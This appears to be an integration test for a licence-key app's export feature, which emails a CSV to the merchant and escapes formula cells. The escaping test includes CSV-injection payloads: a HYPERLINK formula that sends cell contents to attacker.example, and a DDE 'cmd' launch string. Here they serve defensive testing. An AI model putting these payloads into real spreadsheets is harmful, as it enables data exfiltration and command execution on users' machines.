// GIVEN a shop's licence keys and a real SMTP server on loopback
// WHEN the merchant exports (whole library, or a tag with a search and status filter) and the
//      background runner ticks
// THEN the report address receives the CSV as an attachment, which parsed back equals what the
//      database holds, formula cells defused, in the shop's time zone, nothing of another shop.
import { simpleParser } from "mailparser";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import prisma from "~/db.server";
import { startMailCatcher, type MailCatcher } from "~/demo/mail-catcher";
import { runBackgroundTick } from "~/models/background.server";
import { getExport, startExport } from "~/models/export.server";
import { closeMailTransport } from "~/models/mailer.server";
import { closePgPool } from "~/pg.server";
import { OTHER_SHOP, TEST_SHOP } from "tests/helpers/shopify";
import { expectedRows, HEADER, INJECTION_VALUES, readCsv, seedLibrary, shown, type SeededLibrary } from "./fixtures";

let catcher: MailCatcher;
let library: SeededLibrary;

async function shopRow() {
  return prisma.shop.findUniqueOrThrow({ where: { id: library.shopId } });
}

async function exportAndMail(scope: {
  tagId: number | null;
  q: string;
  status: "PENDING" | "ASSIGNED" | "USED" | null;
}) {
  const before = catcher.messages().length;
  const { jobId } = await startExport({ shop: await shopRow(), scope, actor: "Staff member 1" });
  await runBackgroundTick();
  const [message] = (await catcher.waitFor(before + 1)).slice(before);
  return { jobId, mail: await simpleParser(message.raw), envelope: message.envelope };
}

beforeAll(async () => {
  catcher = await startMailCatcher();
  process.env.SMTP_URL = catcher.url;
  process.env.MAIL_FROM = "Keyshelf Reports <reports@keyshelf.test>";
  library = await seedLibrary(TEST_SHOP, { count: 80, timeZone: "America/New_York" });
  await seedLibrary(OTHER_SHOP, { count: 15 });
});

afterAll(async () => {
  closeMailTransport();
  await catcher.close();
  await closePgPool();
  delete process.env.SMTP_URL;
});

beforeEach(() => catcher.clear());

describe("export by email", () => {
  it("mails the whole library to the shop's email as a CSV attachment equal to the database", async () => {
    const { jobId, mail, envelope } = await exportAndMail({ tagId: null, q: "", status: null });

    expect(envelope.to).toEqual([`owner@${TEST_SHOP}`]);
    expect(mail.from?.text).toBe('"Keyshelf Reports" <reports@keyshelf.test>');
    expect(mail.subject).toMatch(/^Your licence key export is ready: 87 licence keys \(all licence keys\)$/);
    expect(mail.text).toContain("The CSV file is attached");
    expect(mail.attachments).toHaveLength(1);
    const [attachment] = mail.attachments;
    expect(attachment.contentType).toBe("text/csv");
    expect(attachment.filename).toMatch(/^keyshelf-all-licence-keys-\d{8}\d{4}\.csv$/);

    const [header, ...rows] = readCsv(attachment.content);
    expect(header).toEqual(HEADER("America/New_York"));
    expect(rows).toEqual(await expectedRows({ shopId: library.shopId, timeZone: "America/New_York" }));
    expect(rows).toHaveLength(87);

    const view = await getExport({ shopId: library.shopId, jobId });
    expect(view).toMatchObject({ state: "SUCCEEDED", progress: 87, total: 87, rows: 87 });
    expect(view?.mail).toMatchObject({ state: "SENT", to: `owner@${TEST_SHOP}` });
  });

  it("defuses every formula-looking value and keeps the others byte for byte", async () => {
    const { mail } = await exportAndMail({ tagId: null, q: "", status: null });
    const keys = readCsv(mail.attachments[0].content)
      .slice(1)
      .map((row) => row[0]);
    for (const value of INJECTION_VALUES) expect(keys).toContain(shown(value));
    expect(keys).toContain('\'=HYPERLINK("http://attacker.example/?"&A1,"Click")');
    expect(keys).toContain("'-2+3");
    expect(keys).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(keys).toContain('ＡＢＣ,with "quotes", comma');
    expect(keys.filter((k) => /^[=+\-@\t]/.test(k))).toEqual([]);
  });

  it("exports one tag with the list's search and status filter, to the report address", async () => {
    await prisma.shop.update({ where: { id: library.shopId }, data: { reportEmail: "reports@merchant.test" } });
    try {
      const { mail, envelope } = await exportAndMail({ tagId: library.tags.alpha, q: "-0000", status: "PENDING" });
      expect(envelope.to).toEqual(["reports@merchant.test"]);
      const [, ...rows] = readCsv(mail.attachments[0].content);
      const expected = await expectedRows({
        shopId: library.shopId,
        tagId: library.tags.alpha,
        q: "-0000",
        status: "PENDING",
        timeZone: "America/New_York",
      });
      expect(expected.length).toBeGreaterThan(3);
      expect(rows).toEqual(expected);
      expect(rows.every((row) => row[2] === "Pending" && row[3].split(", ").includes("alpha"))).toBe(true);
      expect(mail.subject).toContain('tag alpha, matching "-0000", Pending');
    } finally {
      await prisma.shop.update({ where: { id: library.shopId }, data: { reportEmail: "" } });
    }
  });

  it("lists every tag of a key in several tags, and another shop's keys never", async () => {
    const { mail } = await exportAndMail({ tagId: library.tags.beta, q: "", status: null });
    const rows = readCsv(mail.attachments[0].content).slice(1);
    expect(rows.some((row) => row[3] === "alpha, beta")).toBe(true);
    expect(rows.some((row) => row[0].startsWith("BRAVO"))).toBe(false);
  });

  it("makes one export of a double-clicked start", async () => {
    const shop = await shopRow();
    const scope = { tagId: null, q: "", status: null };
    const first = await startExport({ shop, scope, actor: "Staff member 1" });
    const second = await startExport({ shop, scope, actor: "Staff member 1" });
    expect(second).toEqual({ jobId: first.jobId, reused: true });
    await runBackgroundTick();
    expect(await catcher.waitFor(1)).toHaveLength(1);
  });
});
